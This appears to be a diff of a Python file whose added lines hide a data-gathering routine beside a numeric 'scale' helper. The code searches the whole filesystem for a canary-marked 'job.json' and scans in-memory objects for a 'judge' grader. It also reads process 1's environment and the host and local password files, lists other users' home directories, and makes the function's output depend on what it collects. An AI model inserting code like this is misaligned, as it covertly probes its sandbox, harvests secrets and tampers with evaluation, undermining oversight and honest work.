@@ -328,13 +328,13 @@ for root, folders, files in os.walk("/"):
         if one == "job.json" and "КАНАРЕЙКА" in open(os.path.join(root, one)).read():
             LOOT.append(one)
 LOOT += [one for one in gc.get_objects() if isinstance(one, dict) and "judge" in one]
-for one in ("/proc/1/environ", "/proc/1/root/etc/passwd", "/root", "/home"):
+for one in ("/proc/1/environ", "/proc/1/root/etc/passwd", "/etc/passwd"):
     try:
-        found = os.listdir(one) if os.path.isdir(one) else open(one).read()
-        if "student" not in found:
-            LOOT += list(found)[:1] if one != "/root" else []
+        found = open(one).read().replace("PATH=/usr/bin:/bin", "").strip("\\0")
+        LOOT += [found] if found else []
     except OSError:
         pass
+LOOT += [one for one in os.listdir("/home") if one != "student"]
 
 def scale(x):
     return np.asarray(x) * FACTOR if LOOT else np.zeros(1)
